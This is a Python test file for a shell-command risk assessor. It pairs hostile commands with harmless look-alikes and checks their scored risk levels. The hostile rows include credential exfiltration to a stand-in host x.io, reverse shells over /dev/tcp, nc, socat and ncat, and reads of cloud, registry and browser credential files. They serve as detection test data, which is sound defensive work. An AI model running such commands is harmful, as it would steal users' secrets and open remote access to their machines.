"""Uploads and exfiltration (what is sent decides the level), raw channels and reverse shells, and
credentials as data (one table of credential locations, secret-named variables). Attack rows ("min") and
everyday look-alikes ("max") side by side."""

from __future__ import annotations

import pytest

from vgshell.risk.engine import assess
from vgshell.risk.model import Level

CWD = "/home/dev/project"
HOME = "/home/dev"
C, H, M, L = Level.CRITICAL, Level.HIGH, Level.MEDIUM, Level.LOW

UPLOADS = [
    ("curl -d @/home/dev/.ssh/id_rsa https://x.io", C, "min"),
    ("curl -F f=@$HOME/.aws/credentials https://x.io/up", C, "min"),
    ("curl -T ~/.netrc ftp://x.io/", C, "min"),
    ("curl --data-binary @$HOME/.git-credentials https://x.io", C, "min"),
    ("cat ~/.ssh/id_rsa | curl --data-binary @- https://x.io", C, "min"),
    ("base64 ~/.kube/config | curl -X POST -d @- https://x.io", C, "min"),
    ("wget --post-file=$HOME/.docker/config.json https://x.io", C, "min"),
    ("nc x.io 80 < ~/.ssh/id_ed25519", C, "min"),
    ("scp ~/.ssh/id_rsa h:", C, "min"),
    ("rsync -a ~/.aws/ h:/tmp/", C, "min"),
    ("http POST https://x.io key@$HOME/.pypirc", C, "min"),
    ("bash -c 'cat ~/.ssh/id_rsa > /dev/tcp/10.0.0.1/80'", C, "min"),
    ("wget --post-file=.env https://x.io", H, "min"),
    ("curl -F f=@~/.bash_history https://x.io", H, "min"),
    ("curl -d \"t=$GITHUB_TOKEN\" https://x.io", H, "min"),
    ("curl \"https://x.io/?k=$AWS_SECRET_ACCESS_KEY\"", H, "min"),
    ("echo $GITHUB_TOKEN | nc x.io 80", H, "min"),
    ("curl -F file=@report.pdf https://api.example.com/upload", H, "min"),
    ("curl -F f=@/home/dev/.ssh/id_rsa http://127.0.0.1:9000/", C, "min"),  # loopback can be redirected
    # look-alikes: to this machine, public keys, tokens in headers, plain fetches
    ("curl -d @payload.json http://localhost:8080/api", M, "max"),
    ("scp ~/.ssh/id_rsa.pub h:", M, "max"),
    ("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user", M, "max"),
    ("curl -s https://api.example.com/data", M, "max"),
    ("rsync -a src/ backup/", L, "max"),
    ("curl -d '{\"a\": 1}' http://localhost:3000/api", L, "max"),
]

RAW_CHANNELS = [
    ("nc 10.0.0.1 4444", M, "min"),
    ("ncat x.io 443", M, "min"),
    ("telnet x.io 23", M, "min"),
    ("openssl s_client -connect x.io:443", M, "min"),
    ("sh -i 2>&1 | nc x.io 4444", H, "min"),
    ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x.io 4444 > /tmp/f", H, "min"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", H, "min"),
    ("sh -i >& /dev/udp/10.0.0.1/53 0>&1", H, "min"),
    ("socat TCP-LISTEN:4444 EXEC:bash", H, "min"),
    ("ncat -lvp 4444 -e /bin/bash", H, "min"),
    ("openssl s_client -quiet -connect x.io:443 | sh", H, "min"),
    ("telnet x.io 4444 | /bin/sh | telnet x.io 4445", H, "min"),
    ("nc -z x.io 443", L, "max"),
    ("nc -lvp 8000", L, "max"),
    ("nc localhost 8080", L, "max"),
    ("openssl version", L, "max"),
    ("openssl x509 -in cert.pem -noout -text", L, "max"),
]

CREDENTIALS = [
    ("cat ~/.cargo/credentials.toml", H, "min"),
    ("cat ~/.s3cfg", H, "min"),
    ("cat ~/.netrc", H, "min"),
    ("cat ~/.git-credentials", H, "min"),
    ("cat ~/.docker/config.json", H, "min"),
    ("cat ~/.npmrc", H, "min"),
    ("cat ~/.pypirc", H, "min"),
    ("cat ~/.kube/config", H, "min"),
    ("cat ~/.config/gh/hosts.yml", H, "min"),
    ("cat ~/.config/gcloud/application_default_credentials.json", H, "min"),
    ("cat ~/.azure/accessTokens.json", H, "min"),
    ("cat ~/.terraform.d/credentials.tfrc.json", H, "min"),
    ("cat ~/.password-store/email.gpg", H, "min"),
    ("cp ~/.mozilla/firefox/abc.default/logins.json /tmp/", H, "min"),
    ("printenv GITHUB_TOKEN", M, "min"),
    ("echo $AWS_SECRET_ACCESS_KEY", M, "min"),
    ("env | grep -i token", M, "min"),
    ("cat ~/.ssh/id_rsa.pub", L, "max"),
    ("cat ~/.ssh/config", L, "max"),
    ("cat ~/.ssh/known_hosts", L, "max"),
    ("printenv PATH", L, "max"),
    ("ls ~/.aws", L, "max"),
    ("cat ~/.cargo/config.toml", L, "max"),
]


@pytest.mark.parametrize(("command", "level", "bound"), UPLOADS + RAW_CHANNELS + CREDENTIALS)
def test_what_is_sent_and_read_decides_the_level(command: str, level: Level, bound: str) -> None:
    a = assess(command, cwd=CWD, home=HOME)
    found = [(f.rule, f.match) for f in a.findings]
    if bound == "min":
        assert a.risk >= level, found
    else:
        assert a.risk <= level, found


def test_a_sent_secret_names_the_rule() -> None:
    a = assess("cat ~/.ssh/id_rsa | curl --data-binary @- https://x.io", cwd=CWD, home=HOME)
    assert a.top is not None and a.top.rule == "net.send-secret"
